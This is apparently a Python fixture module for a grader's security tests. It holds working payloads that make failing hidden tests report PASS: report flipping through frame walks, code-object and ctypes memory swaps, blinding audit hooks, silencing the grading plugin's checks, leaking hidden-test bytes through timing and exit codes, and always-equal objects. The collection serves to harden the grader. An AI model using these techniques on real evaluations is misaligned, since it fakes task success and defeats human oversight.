"""The hostile code of issue 18 ("verdict integrity, second round"), by class: what the
submissions of tests/test_attacks_round2.py carry into the container. Each payload is
prepended to the unfixed `calc` module (or stands alone where it says so); every one of
them gets a PASS it does not deserve from a grader that trusts the objects of the test
process. Written as an attacker who has read docs/security.md and the report plugin:
no function of pytest or pluggy is replaced, no hook registered (but in 2b, which changes the
hooks for part of a run only, against the plugin's check after every test), no gc walk.
"""

from __future__ import annotations

from helpers.attack_patches import code

# --- 1. report objects changed in place through pytest's own data --------------------------

# The code under test, called inside the failing test, climbs to the test item (the
# frame of pytest_pyfunc_call holds it) and swaps its user_properties (a plain list
# attribute) for a subclass sharing its contents. TestReport.__init__ copies that list
# after it has set its outcome: the iterator reaches the report being built in its
# caller's frame and sets it passed.
USER_PROPERTIES_FLIP_THE_REPORT = code("""
    import sys


    class _Props(list):
        def __bool__(self):
            return True

        def __iter__(self):
            f = sys._getframe(1)
            while f is not None:
                rep = f.f_locals.get("self")
                if type(rep).__name__ == "TestReport" and getattr(rep, "outcome", None) == "failed":
                    rep.outcome = "passed"
                    rep.longrepr = None
                    break
                f = f.f_back
            return list.__iter__(self)


    def _item():
        f = sys._getframe(2)
        while f is not None:
            item = f.f_locals.get("pyfuncitem") or f.f_locals.get("item")
            if item is not None and hasattr(item, "user_properties"):
                return item
            f = f.f_back
        return None


    def mean(xs):
        item = _item()
        if item is not None and type(item.user_properties) is list:
            item.user_properties = _Props(item.user_properties)
        return sum(xs) / len(xs)
    """)

# The same reach through another object pytest iterates on the report's path: the item's
# keywords, swapped for an instance of a NodeKeywords subclass that shares its storage.
# TestReport.from_item_and_call iterates them before it reads the call's exception: the
# iterator finds the CallInfo in its caller's frame and drops the exception.
KEYWORDS_SUBCLASS_DROPS_THE_EXCEPTION = code("""
    import sys


    def _item():
        f = sys._getframe(2)
        while f is not None:
            item = f.f_locals.get("pyfuncitem") or f.f_locals.get("item")
            if item is not None and hasattr(item, "keywords"):
                return item
            f = f.f_back
        return None


    def mean(xs):
        item = _item()
        kw = getattr(item, "keywords", None)
        if kw is not None and not getattr(kw, "_armed", False):
            base = type(kw)

            class _Kw(base):
                __slots__ = ()
                _armed = True

                def __iter__(self):
                    f = sys._getframe(1)
                    while f is not None:
                        call = f.f_locals.get("call")
                        if call is not None and getattr(call, "excinfo", None) is not None:
                            call.excinfo = None
                            break
                        f = f.f_back
                    return base.__iter__(self)

            new = _Kw.__new__(_Kw)
            for slot in getattr(base, "__slots__", ()):
                setattr(new, slot, getattr(kw, slot))
            item.keywords = new
        return sum(xs) / len(xs)
    """)

# --- 2. code objects swapped, function objects kept ----------------------------------------

# The failing hidden test's __code__ becomes a passing test's code from the same file,
# once the file's functions exist (a thread waits for them).
HIDDEN_TEST_CODE_SWAPPED = code("""
    import sys
    import threading
    import time


    def _donor(mod):
        # a test of the module that does not call mean on an empty list: it passes
        import inspect

        for attr, fn in list(vars(mod).items()):
            if attr.startswith("test") and callable(fn) and getattr(fn, "__code__", None) is not None:
                try:
                    if "mean([])" not in inspect.getsource(fn) and fn.__code__.co_argcount == 0:
                        return fn
                except (OSError, TypeError):
                    continue
        return None


    def _swap_codes():
        for _ in range(3000):
            for name, mod in list(sys.modules.items()):
                donor = _donor(mod) if name.endswith("test_mean") else None
                if donor is not None:
                    for attr, fn in list(vars(mod).items()):
                        if attr.startswith("test") and fn is not donor and getattr(fn, "__code__", None) is not None:
                            fn.__code__ = donor.__code__
                    return
            time.sleep(0.001)


    threading.Thread(target=_swap_codes, daemon=True).start()
    """)

# The body of one of pytest's own functions swapped in place: CallInfo.from_call keeps its
# identity (a snapshot by identity sees the same function), its code drops the exception
# of a failure raised inside calc/.
PYTEST_FUNCTION_BODY_SWAPPED = code("""
    import sys


    def _from_call(cls, func, when, reraise=None):
        import time as _t
        start = _t.time()
        precise_start = _t.perf_counter()
        excinfo = None
        try:
            result = func()
        except BaseException:
            excinfo = None
            result = None
        precise_stop = _t.perf_counter()
        return cls(start=start, stop=_t.time(), duration=precise_stop - precise_start, when=when,
                   result=result, excinfo=excinfo, _ispytest=True)


    def _swap():
        runner = sys.modules.get("_py" "test.runner")
        if runner is None:
            import importlib
            runner = importlib.import_module("_py" "test.runner")
        target = runner.CallInfo.__dict__["from_call"].__func__
        target.__code__ = _from_call.__code__


    _swap()
    """)

# --- 3. frame locals written through ctypes ------------------------------------------------

# The exception's __str__ runs while pytest builds the failure's report; it writes
# `outcome = "passed"` into TestReport.from_item_and_call's frame (PyFrame_LocalsToFast,
# from the interpreter's own library: no native file shipped).
CTYPES_LOCALS_TO_FAST = code("""
    import sys


    class _Quiet(ZeroDivisionError):
        def __str__(self):
            try:
                api = getattr(__import__("c" "types"), "python" "api")
                f = sys._getframe(1)
                while f is not None:
                    if f.f_code.co_name == "from_item_and_call":
                        loc = f.f_locals  # one snapshot: every read of f_locals refreshes it
                        loc["outcome"] = "passed"
                        getattr(api, "PyFrame_" "LocalsToFast")(
                            __import__("c" "types").py_object(f), __import__("c" "types").c_int(0)
                        )
                        break
                    f = f.f_back
            except Exception:
                pass
            return "division by zero"


    def mean(xs):
        if not xs:
            raise _Quiet("division by zero")
        return sum(xs) / len(xs)
    """)

# The failing hidden test's code pointer rewritten in memory through ctypes (no
# `__code__` assignment for the audit hook to see): it runs a passing test's code. A thread
# races the main thread to it (see the switch interval below).
CTYPES_REWRITES_A_TEST_CODE_POINTER = code("""
    import sys
    import threading
    import time

    _keep = []


    def _donor(mod):
        import inspect

        for attr, fn in list(vars(mod).items()):
            if attr.startswith("test") and callable(fn) and getattr(fn, "__code__", None) is not None:
                try:
                    if "mean([])" not in inspect.getsource(fn) and fn.__code__.co_argcount == 0:
                        return fn
                except (OSError, TypeError):
                    continue
        return None


    def _rewrite():
        ct = __import__("c" "types")
        for _ in range(3000):
            for name, mod in list(sys.modules.items()):
                donor = _donor(mod) if name.endswith("test_mean") else None
                if donor is not None:
                    good = donor.__code__
                    _keep.append(good)
                    for attr, fn in list(vars(mod).items()):
                        if attr.startswith("test") and fn is not donor and getattr(fn, "__code__", None) is not None:
                            # PyFunctionObject: refcount, type, globals, builtins, name, qualname, code
                            slot = ct.c_void_p.from_address(id(fn) + 6 * ct.sizeof(ct.c_void_p))
                            ct.pythonapi.Py_IncRef(ct.py_object(good))
                            slot.value = id(good)
                    return
            time.sleep(0.001)


    # the rewrite must land between the test module's definitions and its first test: the
    # interpreter is made to hand its lock over often, or on a loaded machine the main
    # thread may run the tests before this one is scheduled (the attack then misses)
    sys.setswitchinterval(1e-5)
    threading.Thread(target=_rewrite, daemon=True).start()
    """)

# A thread that keeps the plugin's audit hook busy (an audited call in a tight loop) while
# the test module loads, and another that gives test_empty the code of test_two (which
# passes at the base) by plain assignment: with one "busy" flag for every thread, the
# main thread's events (the test module's exec, whose code every test is checked
# against) and the assignment itself went unseen whenever they met the spinner in the hook.
BUSY_THREAD_BLINDS_THE_HOOK = code("""
    import sys
    import threading
    import time

    _done = []


    def _spin():
        while not _done:
            sys._getframe(0)


    def _tests(mod):
        import inspect

        out = {}
        for fn in list(vars(mod).values()):
            if callable(fn) and getattr(fn, "__code__", None) is not None:
                try:
                    out[fn] = inspect.getsource(fn)
                except (OSError, TypeError):
                    pass
        return out


    def _swap():
        # the test module's names are drawn per run: the target and the donor by their source
        for _ in range(5000):
            mod = next((m for n, m in list(sys.modules.items()) if n.endswith("test_mean")), None)
            found = _tests(mod) if mod is not None else {}
            donor = next((f for f, s in found.items() if "mean([1, 3]) == 2" in s and "not" not in s), None)
            targets = [f for f, s in found.items() if "mean([])" in s]
            if donor is not None and targets:
                for fn in targets:
                    fn.__code__ = donor.__code__
                break
            time.sleep(0.001)
        time.sleep(0.5)
        _done.append(1)


    threading.Thread(target=_spin, daemon=True).start()
    threading.Thread(target=_swap, daemon=True).start()
    """)

# --- 4. spellings past a textual audit -----------------------------------------------------

SPELLINGS_GETATTR_GETFRAME = code("""
    import sys as _s

    _gf = getattr(_s, "_get" "frame")
    _fb = "f_" "back"
    _caller = getattr(_gf(0), _fb)
    """)

SPELLINGS_IMPORT_CTYPES = code("""
    import builtins as _b

    _imp = getattr(_b, "__imp" "ort__")
    _c = _imp("c" "types")
    """)

# --- 9. an object whose == is always true ----------------------------------------------------

ALWAYS_EQUAL = code("""
    class _Anything(float):
        def __eq__(self, other):
            return True

        def __ne__(self, other):
            return False

        __hash__ = float.__hash__


    def mean(xs):
        if not xs:
            raise ValueError("empty")
        return _Anything(0)
    """)


# --- 5. canaries picked out ----------------------------------------------------------------

# The report plugin's own checks silenced first: the cell its hooks share for saying
# what they saw (a closure cell: writable, and no audited event) is emptied. What is left
# to catch a flip is what no code in the process holds: which hidden tests are twins.
_SILENCE_THE_PLUGIN = """
    import sys


    def _silence():
        for name, mod in list(sys.modules.items()):
            fn = getattr(mod, "pytest_runtest_logreport", None)
            if fn is None or not name.startswith("grader_report_"):
                continue
            for hook in [v for v in vars(mod).values() if callable(v) and getattr(v, "__closure__", None)]:
                for var, cell in zip(hook.__code__.co_freevars, hook.__closure__):
                    if var in ("said",):
                        cell.cell_contents = lambda *a, **k: None
                    if var == "state":
                        st = cell.cell_contents
                        for attr in ("check", "check_item", "check_report_path", "check_hooks", "said"):
                            setattr(st, attr, lambda *a, **k: None)


    _silence()


    class _Props(list):
        def __bool__(self):
            return True

        def __iter__(self):
            f = sys._getframe(1)
            while f is not None:
                rep = f.f_locals.get("self")
                if type(rep).__name__ == "TestReport" and getattr(rep, "outcome", None) == "failed":
                    if _aimed(rep):
                        rep.outcome = "passed"
                        rep.longrepr = None
                    break
                f = f.f_back
            return list.__iter__(self)


    def _arm_all():
        # every item of the session, from the collector's frames at import
        f = sys._getframe(1)
        while f is not None:
            for v in list(f.f_locals.values()):
                sess = getattr(v, "session", None)
                if sess is not None and hasattr(sess, "config"):
                    _sessions.append(sess)
            f = f.f_back


    _sessions = []
    _arm_all()


    def _arm_items():
        for sess in _sessions:
            for item in getattr(sess, "items", None) or []:
                if type(item.user_properties) is list:
                    item.user_properties = _Props(item.user_properties)
"""

# Every failure flipped, the checks silenced.
SILENCED_BLANKET_FLIP = code(
    _SILENCE_THE_PLUGIN,
    """
    def _aimed(rep):
        return True


    def mean(xs):
        _arm_items()
        return sum(xs) / len(xs)
    """,
)

# Only the listed FAIL_TO_PASS test, by its public id.
SILENCED_FLIP_AIMED_AT_THE_LISTED_ID = code(
    _SILENCE_THE_PLUGIN,
    """
    def _aimed(rep):
        return rep.nodeid == "tests/test_mean.py::test_empty"


    def mean(xs):
        _arm_items()
        return sum(xs) / len(xs)
    """,
)

# Only the tests whose body does what the listed test must do (calls mean on an empty
# list): the listed test found by its content, since its name is gone.
SILENCED_FLIP_AIMED_BY_CONTENT = code(
    _SILENCE_THE_PLUGIN,
    """
    import inspect as _inspect


    def _aimed(rep):
        for sess in _sessions:
            for item in getattr(sess, "items", None) or []:
                if item.nodeid == rep.nodeid:
                    try:
                        return "mean([])" in _inspect.getsource(item.obj)
                    except (OSError, TypeError):
                        return False
        return False


    def mean(xs):
        _arm_items()
        return sum(xs) / len(xs)
    """,
)

# Only the first failure of each module in collection order (a canary module first on the
# command line, or canaries appended last, would be spared).
SILENCED_FLIP_OF_THE_FIRST_FAILURE_PER_MODULE = code(
    _SILENCE_THE_PLUGIN,
    """
    _done = set()


    def _aimed(rep):
        path = rep.nodeid.split("::", 1)[0]
        if path in _done:
            return False
        _done.add(path)
        return True


    def mean(xs):
        _arm_items()
        return sum(xs) / len(xs)
    """,
)

# --- 6. malformed records the plugin signs ---------------------------------------------------

# The report being built is given fields of the wrong types: a test id that is a list, a
# phase that is a number. The plugin signs what it is given.
_REPORT_REWRITE = """
    import sys


    class _Props(list):
        def __bool__(self):
            return True

        def __iter__(self):
            f = sys._getframe(1)
            while f is not None:
                rep = f.f_locals.get("self")
                if type(rep).__name__ == "TestReport":
                    _shape(rep)
                    break
                f = f.f_back
            return list.__iter__(self)


    def mean(xs):
        f = sys._getframe(1)
        while f is not None:
            item = f.f_locals.get("pyfuncitem")
            if item is not None and type(item.user_properties) is list:
                item.user_properties = _Props(item.user_properties)
                break
            f = f.f_back
        return sum(xs) / len(xs)
"""

MALFORMED_ID_AND_PHASE = code(
    _REPORT_REWRITE,
    """
    def _shape(rep):
        rep.nodeid = ["tests/test_mean.py::test_empty", {"when": 1}]
        rep.when = 7
        rep.outcome = "passed"
    """,
)

MALFORMED_DEEP_AND_HUGE = code(
    _REPORT_REWRITE,
    """
    def _shape(rep):
        deep = []
        for _ in range(100000):
            deep = [deep]
        rep.nodeid = deep
        rep.duration = 10 ** 400
        rep.outcome = "passed"
    """,
)

# --- 7. bits out under `feedback: tests` -----------------------------------------------------

# A byte of the hidden test file, as the time the run takes (the durations shown).
LEAK_IN_A_DURATION = code("""
    import time as _t

    with open("tests/test_mean.py", "rb") as _f:
        _t.sleep((sum(_f.read()) % 16) * 0.25)
    """)

# The byte as the exit status, under `tests` (not only `verdict`).
LEAK_IN_THE_EXIT_STATUS = code("""
    import os as _os

    with open("tests/test_mean.py", "rb") as _f:
        _os._exit(120 + sum(_f.read()) % 97)
    """)

# --- 9. another always-equal object ----------------------------------------------------------

ALWAYS_EQUAL_BY_LAMBDA = code("""
    class Result:
        __eq__ = lambda self, other: True
        __hash__ = object.__hash__

        def __float__(self):
            return 0.0


    def mean(xs):
        if not xs:
            raise ValueError("empty")
        return Result()
    """)

# --- 2b. hooks changed for part of a run only (the plugin compares the hooks after every
# test with what its last full check saw, and checks them in full when something differs)

# The plugin manager, found by climbing the frames of the import (a frame read: a finding,
# not tampering), without a gc walk.
_FIND_MANAGER = """
    import sys as _sys


    def _manager():
        f = _sys._getframe()
        while f is not None:
            for v in list(f.f_locals.values()):
                pm = getattr(getattr(v, "config", None), "pluginmanager", None)
                if pm is not None and hasattr(pm, "register"):
                    return pm
            f = f.f_back
        return None
    """

# The whole calc module (its unfixed mean): a hook registered in the second call of mean
# (the second test's, after the plugin's check of the first has seen the hooks clean) and
# gone in the third, so that nothing of it is left by the end of the session.
HOOK_REGISTERED_FOR_ONE_TEST = code(
    _FIND_MANAGER,
    """
    class _Passing:
        def pytest_runtest_logreport(self, report):
            pass


    _calls = []
    _plugin = _Passing()


    def mean(xs):
        _calls.append(1)
        pm = _manager()
        if pm is not None and len(_calls) == 2:
            pm.register(_plugin, "grader-passing")
        elif pm is not None and len(_calls) == 3 and pm.is_registered(_plugin):
            pm.unregister(_plugin)
        return sum(xs) / len(xs)
    """,
)

# The same without register(): a copy of one of pytest's own implementations, its function
# swapped, put straight into pluggy's list for the hook, and taken out again.
HOOK_INSERTED_INTO_PLUGGYS_LIST = code(
    _FIND_MANAGER,
    """
    import copy as _copy

    _calls = []
    _inserted = []


    def _observer(report):
        pass


    def mean(xs):
        _calls.append(1)
        pm = _manager()
        if pm is not None and len(_calls) == 2:
            caller = pm.hook.pytest_runtest_logreport
            own = next(i for i in caller._hookimpls if not i.hookwrapper and not getattr(i, "wrapper", False))
            impl = _copy.copy(own)
            impl.function = _observer
            caller._hookimpls.insert(0, impl)
            _inserted.append((caller, impl))
        elif len(_calls) == 3 and _inserted:
            caller, impl = _inserted.pop()
            caller._hookimpls.remove(impl)
        return sum(xs) / len(xs)
    """,
)

# --- 2c. a builtin's name put into the test module from outside ---------------------------

# The code under test, called by a test, climbs to the test module's frame and binds
# ValueError there to ZeroDivisionError, which the unfixed mean raises for an empty list:
# every `pytest.raises(ValueError)` evaluated after that catches it. The module's own code
# never binds the name. (At import it cannot: the canaries' module imports calc first.)
BUILTIN_NAME_PUT_INTO_THE_TEST_MODULE = code("""
    import sys as _sys


    def mean(xs):
        f = _sys._getframe(1)
        while f is not None:
            if str(f.f_globals.get("__file__", "")).endswith("test_mean.py"):
                f.f_globals["ValueError"] = ZeroDivisionError
                break
            f = f.f_back
        return sum(xs) / len(xs)
    """)
